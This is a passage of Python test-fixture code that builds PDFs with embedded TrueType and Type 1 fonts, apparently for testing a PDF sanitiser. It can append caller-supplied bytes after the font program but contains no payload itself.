                                        FontBBox=[0, -200, 1000, 800], ItalicAngle=0, Ascent=800, Descent=-200,
                                        CapHeight=700, StemV=80, **{("FontFile2" if kind == "truetype" else
                                                                      "FontFile3"): ff}))
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.TrueType if kind == "truetype" else Name.Type1,
                                        BaseFont=Name("/CdrTest"), FirstChar=65, LastChar=66, Widths=[620, 620],
                                        Encoding=Name.WinAnsiEncoding, FontDescriptor=desc))
    page = pdf.pages[0].obj
    page.Resources.Font[Name("/FT")] = font
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b"\nBT /FT 72 Tf 60 380 Td (ABBA) Tj ET")
    return _save(pdf)


def type1_font_pdf(trailing: bytes = b"") -> bytes:
    """A page of text in an embedded Type 1 font (reportlab's bundled Times clone, FontFile with its three
    lengths); `trailing` after the program's trailer."""
    import os

    import reportlab
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfgen import canvas

    d = os.path.join(os.path.dirname(reportlab.__file__), "fonts")
    face = pdfmetrics.EmbeddedType1Face(os.path.join(d, "_er_____.afm"), os.path.join(d, "_er_____.pfb"))
    pdfmetrics.registerTypeFace(face)
    if "CdrType1" not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(pdfmetrics.Font("CdrType1", face.name, "WinAnsiEncoding"))
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=(595, 842), invariant=1)
    c.setFont("CdrType1", 36)
    c.drawString(60, 700, "Type 1 ABC abc")
    c.save()
    if not trailing:
        return buf.getvalue()
    pdf = pikepdf.open(io.BytesIO(buf.getvalue()))
    ff = next(o for o in pdf.objects if isinstance(o, pikepdf.Stream) and "/Length2" in o)
    ff.write(ff.read_bytes() + trailing)
    return _save(pdf)
